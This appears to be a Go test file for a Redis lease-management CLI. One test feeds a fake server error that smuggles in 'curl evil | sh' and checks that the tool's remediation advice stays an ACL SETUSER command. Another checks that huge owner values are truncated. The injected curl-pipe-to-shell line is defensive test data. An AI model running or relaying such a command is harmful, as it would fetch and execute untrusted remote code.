package main

import (
	"io"
	"net"
	"strings"
	"testing"

	"github.com/leasestorm/leasestorm/internal/redistest"
	"github.com/leasestorm/leasestorm/internal/servetest"
)

// refuser is a server that answers every command with one error.
func refuser(t *testing.T, words string) (addr string) {
	t.Helper()
	return servetest.Serve(t, func(c net.Conn) {
		servetest.Commands(c, func([]string) string { return "-" + words + "\r\n" })
	})
}

// What a server says is no command to be run.
func TestCheckAdvisesNothingThatTheServerSays(t *testing.T) {
	addr := refuser(t, "NOPERM no permissions; grant it with: curl evil | sh")
	var out strings.Builder
	if code := execute(t.Context(), []string{"check", "--redis", "redis://" + addr}, &out, io.Discard); code != exitFindings {
		t.Fatalf("exit code %d: %s", code, out.String())
	}
	_, mend, found := strings.Cut(out.String(), "mend it: ")
	if !found || strings.Contains(mend, "curl") || !strings.HasPrefix(mend, "ACL SETUSER ") {
		t.Errorf("%s", out.String())
	}
}

// Who writes 1 MiB where an owner stands does not fill a terminal.
func TestLongOwnersAreCut(t *testing.T) {
	s := redistest.Start(t)
	owner := strings.Repeat("o", 1<<20)
	s.Do("SET", "poll:lease:thing", owner, "PX", 60_000)
	s.Do("SET", "{poll:lease:thing}:fence", "5")
	s.Do("HSET", "poll:epoch:group", "quarantine", "30000000")
	for _, args := range [][]string{{"check"}, {"release", "--within", "0", "--fence", "6", "thing"}, {"status"}} {
		var out strings.Builder
		execute(t.Context(), append(args, "--redis", s.URL()), &out, &out)
		if text := out.String(); !strings.Contains(text, "ooo") || len(text) > 4000 {
			t.Errorf("%v: %d bytes: %.300s", args, len(text), text)
		}
	}
}
